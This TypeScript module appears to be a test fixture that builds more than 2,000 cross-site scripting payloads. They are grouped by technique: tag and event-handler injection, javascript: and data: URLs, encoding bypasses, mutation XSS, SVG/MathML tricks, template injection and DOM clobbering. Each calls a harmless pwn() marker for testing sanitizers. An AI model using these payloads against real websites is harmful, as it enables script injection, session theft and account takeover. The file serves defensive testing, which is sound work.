/**
 * Texts that would run a script if they were read as markup, as an address or as code. Each calls `pwn`, which the page
 * under test defines. Made from parts, category by category.
 */
const RUN = 'pwn()';

const tags = () =>
  'script,img,svg,iframe,body,video,audio,object,embed,details,marquee,input,select,textarea,keygen,style,link,meta,base,form,button,isindex,frameset,applet,math,table,x-y'
    .split(',')
    .flatMap((tag) => [
      `<${tag} src=x href=x data=x onerror=${RUN} onload=${RUN} ontoggle=${RUN} open>`,
      `<${tag}>${RUN}</${tag}>`,
      `<${tag.toUpperCase()}/x/onfocus=${RUN} autofocus tabindex=1>`,
      `<${tag} src=javascript:${RUN} style="x:expression(${RUN})">x`,
      `"><${tag} onmouseover="${RUN}">`,
      `<<${tag} onpointerenter='${RUN}'//`,
    ]);

const handlers = () =>
  'click,dblclick,focus,blur,load,error,toggle,beforetoggle,animationstart,transitionend,pointerover,pointerrawupdate,wheel,scroll,scrollend,copy,cut,paste,input,change,submit,reset,invalid,begin,end,repeat,start,finish,resize,message,hashchange,popstate,pageshow,beforeunload,contentvisibilityautostatechange,auxclick'
    .split(',')
    .flatMap((name) =>
      ['p', 'a href=#', 'img src=x', 'td', 'summary', 'details open', 'li', 'abbr', 'x-y'].flatMap((tag) => [
        `<${tag} on${name}=${RUN}>x`,
        `<${tag}\non${name.toUpperCase()}\t=\n"${RUN}">x`,
      ]),
    );

const protocols = () =>
  [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    '\u0001javascript:',
    'javascript&colon;',
    'javascript&#58;',
    '&#106;avascript:',
    '&#x6A&#x61vascript:',
    'vbscript:',
    'livescript:',
    'data:text/html,<script>',
    'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==,',
    'data:image/svg+xml,<svg onload="',
    'blob:',
    'filesystem:',
    'view-source:javascript:',
    'feed:javascript:',
    'jar:javascript:',
    'about:blank#',
    'file:///',
    'ws://x/',
    'intent://',
  ].flatMap((scheme) =>
    [
      'a href',
      'img src',
      'iframe src',
      'form action',
      'a xlink:href',
      'base href',
      'object data',
      'q cite',
      'use href',
      'td background',
    ].flatMap((attribute) => [
      `<${attribute}="${scheme}${RUN}">x</a>`,
      `<${attribute}='${scheme}//%0a${RUN}'>x</a>`,
    ]),
  );

const PLAIN = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
];

const encodings = () => {
  const each = (text: string, write: (unit: number) => string) =>
    Array.from(text, (letter) => write(letter.charCodeAt(0))).join('');
  const ways: readonly ((text: string) => string)[] = [
    (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (text) => text.replaceAll('<', '&amp;lt;'),
    (text) => each(text, (unit) => `&#${String(unit)};`),
    (text) => each(text, (unit) => `&#x${unit.toString(16)}`),
    (text) => encodeURIComponent(text),
    (text) => encodeURIComponent(encodeURIComponent(text)),
    (text) => each(text, (unit) => `\\u${unit.toString(16).padStart(4, '0')}`),
    (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    (text) => text.replaceAll('<', '\u02c2'),
    (text) => text.replaceAll('<', '<\u0000'),
    (text) => text.replaceAll(' ', '/'),
    (text) => text.replaceAll(' ', '\u000c'),
    (text) => `+ADw-${text.slice(1)}`,
    (text) => `\ufeff${text}`,
    (text) => `\u202e${text}`,
    (text) => text.toUpperCase().replace('PWN', 'pwn'),
    (text) => `%3C${text.slice(1)}`,
    (text) => `<![CDATA[${text}]]>`,
    (text) => `<!--${text}-->`,
    (text) => `<!--><p>--!>${text}`,
  ];
  return ways.flatMap((way) => [...PLAIN, ...PLAIN.map((text) => `"'>${text}`)].map(way));
};

const mutation = () =>
  'noscript,style,title,textarea,template,xmp,noembed,noframes,iframe,select,option,table,caption,svg,math,mtext,mglyph,annotation-xml,foreignObject,desc,form,p,listing,plaintext'
    .split(',')
    .filter((tag) => tag !== 'plaintext')
    .flatMap((tag) =>
      PLAIN.flatMap((text) => [
        `<${tag}><p title="</${tag}>${text.replaceAll('"', "'")}">`,
        `<${tag}><${tag}></${tag}>${text}</${tag}>`,
        `<math><mtext><table><mglyph><style><${tag}></style>${text}</style></mglyph></table></mtext></math>`,
        `<svg></p><style><${tag} id="</style>${text.replaceAll('"', "'")}"></svg>`,
      ]),
    );

const foreign = () =>
  'animate,set,use,image,script,a,foreignObject,handler,discard,feImage,maction,semantics,annotation-xml,mi'
    .split(',')
    .flatMap((tag) =>
      ['svg', 'math'].flatMap((root) => [
        `<${root}><${tag} href="javascript:${RUN}" xlink:href="javascript:${RUN}">x</${tag}></${root}>`,
        `<${root}><a><${tag} attributeName=href values="javascript:${RUN}" to="javascript:${RUN}" onbegin=${RUN} />x</a></${root}>`,
        `<${root}><${tag} actiontype=statusline#x encoding="text/html" onload=${RUN}><img src=x onerror=${RUN}></${tag}></${root}>`,
      ]),
    );

const templates = () =>
  ['{{', '${', '<%=', '#{', '[[', '{%', '*{', '@{', '{!!', '<?php ', '{count}{{', '%s${'].flatMap((start) =>
    [RUN, `constructor.constructor('${RUN}')()`, `$on.constructor('${RUN}')()`, `this.window.${RUN}`].flatMap(
      (code) => [
        `${start}${code}}}`,
        `<p v-html="${start}${code}}}" ng-init="${code}" x-data="${code}" @click="${code}">x`,
      ],
    ),
  );

const clobbering = () =>
  'body,head,title,querySelector,createElement,currentScript,baseURI,location,documentElement,childNodes,attributes,nodeName,parentNode,textContent,matches,getAttribute,__proto__,constructor,hasOwnProperty,Baton,defaultView'
    .split(',')
    .flatMap((name) => [
      `<img name="${name}" id="${name}" src="x" onerror="${RUN}">`,
      `<form id="${name}"><input name="${name}" value="javascript:${RUN}"></form>`,
      `<a id="${name}"></a><a id="${name}" name="href" href="javascript:${RUN}">x</a>`,
      `<object name="${name}" data="javascript:${RUN}"></object>`,
      `<iframe name="${name}" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    ]);

/** All of them, more than 2,000, by category. */
export const payloads: Readonly<Record<string, readonly string[]>> = {
  tags: tags(),
  handlers: handlers(),
  protocols: protocols(),
  encodings: encodings(),
  mutation: mutation(),
  foreign: foreign(),
  templates: templates(),
  clobbering: clobbering(),
};
export const allPayloads: readonly string[] = Object.values(payloads).flat();

/** What ends whatever a payload has begun, so that the next one is read as markup, too. */
export const END =
  '"\'>--></xmp></listing></noembed></noframes></iframe></textarea></title></style></script></noscript></template></foreignObject></desc></svg></math></option></select></object></form></table>';
